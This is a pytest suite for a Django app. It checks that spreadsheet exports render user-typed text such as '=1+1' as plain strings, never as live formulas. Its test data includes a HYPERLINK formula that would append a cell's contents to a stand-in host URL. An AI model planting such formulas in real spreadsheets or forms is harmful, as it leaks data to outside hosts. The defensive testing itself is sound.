"""No export writes what a user typed as a live formula (issue 22, finding 3).

Every free-text field a user or reviewer can fill is set to text that Excel would take for a formula
("=1+1", "+SUM(A1)", "-2+3", "@x", "=HYPERLINK(…)"); every xlsx the app writes (each list's
``?export=xlsx``, the forms export of the table list, one table, one department target, and the
``export_tables`` command in each layout) must then hold no formula element, and the texts must come
back unchanged: as the cell's value, and through a re-import of the official layouts."""

import io
import re
import zipfile

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.db import models
from django.urls import reverse
from openpyxl import load_workbook

from indicators.models import CheckFinding, FindingExplanation, Indicator
from projects import interchange
from projects.excel import read_file
from projects.models import (
    Department,
    DepartmentSubTarget,
    DepartmentTarget,
    ProjectGoal,
    ProjectTable,
    Region,
    ReviewComment,
    ReviewRecord,
    TableStatus,
    Unit,
)

FORMULAS = ("=1+1", "+SUM(A1)", "-2+3", "@x", '=HYPERLINK("http://example.com/?"&E3,"详情")')
_FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")
# Fields that are codes or keys, not text a user types: they must stay valid for the export to work.
_NOT_TEXT = {"uid", "code", "indicator_uid", "rule", "value_nature", "basis", "status", "severity", "criterion",
             "opinion", "reason", "grade", "action", "from_status", "to_status", "quality_grade", "kind"}
_FILLED = (Region, Department, Unit, ProjectTable, ProjectGoal, Indicator, DepartmentTarget, DepartmentSubTarget,
           ReviewRecord, ReviewComment, CheckFinding, FindingExplanation)


def formula_text(number, max_length=None):
    """The ``number``-th formula-like text: the five of FORMULAS first, then variations of them (names
    that must differ, such as two units of one department, stay different)."""
    base = FORMULAS[number % len(FORMULAS)]
    if number >= len(FORMULAS):
        base = base.replace("1", str(number), 1) if "1" in base else f"{base}{number}"
    return base[:max_length] if max_length else base


def fill_every_text_field_with_formulas():
    """Every free-text field of the stored tables, rows, reviews, findings and organisations."""
    number = 0
    for model in _FILLED:
        fields = [
            field for field in model._meta.concrete_fields
            if isinstance(field, (models.CharField, models.TextField)) and not field.choices and field.name not in _NOT_TEXT
        ]
        for obj in model.objects.all():
            for field in fields:
                setattr(obj, field.name, formula_text(number, field.max_length))
                number += 1
            model.objects.filter(pk=obj.pk).update(**{field.name: getattr(obj, field.name) for field in fields})
    return number


def formula_count(content):
    """How many formula elements the workbook's sheets hold."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return sum(
            len(_FORMULA_ELEMENT.findall(archive.read(name)))
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
        )


def string_values(content):
    workbook = load_workbook(io.BytesIO(content))
    return {cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}


@pytest.fixture
def formulas_everywhere(seeded):
    admin = get_user_model().objects.get(username="admin")
    for table in ProjectTable.objects.all():
        record = ReviewRecord.objects.create(
            project=table, actor=admin, action="submit", from_status=table.status, to_status=table.status, round=1,
        )
        ReviewComment.objects.create(record=record, reason="other", text="x")
        CheckFinding.objects.create(project=table, rule="vague_wording", severity="warning", criterion="relevance",
                                    opinion="other", message="x")
        FindingExplanation.objects.create(project=table, rule="vague_wording", text="x", created_by=admin)
    filled = fill_every_text_field_with_formulas()
    # Tables waiting for review, so that the review queues list them.
    ProjectTable.objects.filter(region__code="640221").update(status=TableStatus.DEPARTMENT_REVIEW)
    ProjectTable.objects.filter(region__code="130682").update(status=TableStatus.FINANCE_REVIEW)
    return filled


LIST_EXPORTS = [
    ("admin", "projects:project_list", {"export": "xlsx"}),
    ("admin", "projects:project_list", {"export": "forms", "layout": "pingluo"}),
    ("admin", "projects:project_list", {"export": "forms", "layout": "dingzhou"}),
    ("admin", "projects:project_list", {"export": "forms", "layout": "flat"}),
    ("admin", "projects:department_progress", {"export": "xlsx", "year": "2023"}),
    ("admin", "projects:department_progress", {"export": "xlsx", "year": "2022"}),
    ("admin", "projects:indicator_list", {"export": "xlsx"}),
    ("admin", "projects:finding_list", {"export": "xlsx"}),
    ("pl_dept", "projects:review_queue", {"export": "xlsx"}),
    ("dz_finance", "projects:review_queue", {"export": "xlsx"}),
]


@pytest.mark.parametrize(("username", "url_name", "query"), LIST_EXPORTS)
def test_no_list_export_writes_typed_text_as_a_formula(client, formulas_everywhere, username, url_name, query):
    client.force_login(get_user_model().objects.get(username=username))
    response = client.get(reverse(url_name), query)
    assert response.status_code == 200
    content = response.content
    assert formula_count(content) == 0
    shown = {text for text in string_values(content) if text[:1] in "=+-@"}
    assert shown, "the export lists some of the formula-like names"
    typed = {formula_text(number, length) for number in range(formulas_everywhere) for length in (None, 20, 36, 40, 50)}
    assert shown <= typed, "each comes out exactly as typed"


def test_the_hyperlink_name_comes_out_as_the_text_typed(client, formulas_everywhere):
    table = ProjectTable.objects.filter(region__code="640221").first()
    ProjectTable.objects.filter(pk=table.pk).update(name=FORMULAS[4])
    client.force_login(get_user_model().objects.get(username="admin"))
    content = client.get(reverse("projects:project_list"), {"export": "xlsx"}).content
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULAS[4]]
    assert cells and all(cell.data_type == "s" for cell in cells)


@pytest.mark.parametrize("layout", ["pingluo", "dingzhou", "flat"])
def test_one_table_export_holds_no_formula_and_reads_back_the_same_text(client, formulas_everywhere, layout):
    table = ProjectTable.objects.filter(region__code="130682").order_by("pk").first()
    client.force_login(get_user_model().objects.get(username="admin"))
    response = client.get(reverse("projects:project_export_xlsx", args=[table.pk]), {"layout": layout})
    assert response.status_code == 200
    assert formula_count(response.content) == 0
    plan = read_file(response.content, keep_status=True)
    assert plan.problems == []
    expected = interchange.export_document(ProjectTable.objects.filter(pk=table.pk), DepartmentTarget.objects.none())
    assert plan.document["project_tables"] == expected["project_tables"]


def test_department_target_export_holds_no_formula_and_reads_back_the_same_text(client, formulas_everywhere):
    target = DepartmentTarget.objects.get()
    client.force_login(get_user_model().objects.get(username="admin"))
    response = client.get(reverse("projects:target_export_xlsx", args=[target.pk]))
    assert response.status_code == 200
    assert formula_count(response.content) == 0
    plan = read_file(response.content, keep_status=True)
    assert plan.problems == []
    expected = interchange.export_document(ProjectTable.objects.none(), DepartmentTarget.objects.filter(pk=target.pk))
    assert plan.document["department_targets"] == expected["department_targets"]


@pytest.mark.parametrize("layout", ["pingluo", "dingzhou", "department", "flat"])
def test_the_export_command_writes_no_formula_in_any_layout(formulas_everywhere, tmp_path, layout):
    path = tmp_path / f"{layout}.xlsx"
    call_command("export_tables", "--format", "xlsx", "--layout", layout, "-o", str(path), verbosity=0)
    content = path.read_bytes()
    assert formula_count(content) == 0
    plan = read_file(content, keep_status=True)
    assert plan.problems == []
    expected = interchange.export_document(ProjectTable.objects.all(), DepartmentTarget.objects.all())
    if layout != "department":
        assert plan.document["project_tables"] == expected["project_tables"]
    assert plan.document["department_targets"] == expected["department_targets"]
